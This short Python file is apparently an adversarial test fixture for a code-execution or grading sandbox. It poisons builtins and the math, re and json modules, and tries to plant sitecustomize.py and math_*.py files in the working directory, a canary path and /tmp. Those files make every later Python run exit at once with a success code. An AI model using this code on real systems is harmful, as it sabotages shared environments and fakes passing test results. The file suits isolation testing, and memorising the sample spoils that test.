# attack: leaves things behind for whoever runs next
# ruff: noqa
import builtins, collections, math, os, random, sys

builtins.sum = builtins.sorted = lambda *a, **k: 0
math.sqrt = math.gcd = lambda *a: 0
collections.Counter = None
sys.path.insert(0, os.getcwd())
os.environ["PYTHONPATH"] = os.getcwd()
sys.modules["re"] = sys.modules["json"] = None
for place in (".", "@canary@", "/tmp"):
    for name in ("math_@tag@.py", "sitecustomize.py"):
        try:
            with open(f"{place}/{name}", "x") as file:
                file.write("import os; os._exit(0)")
        except OSError:
            pass


def answer(n):
    return 0
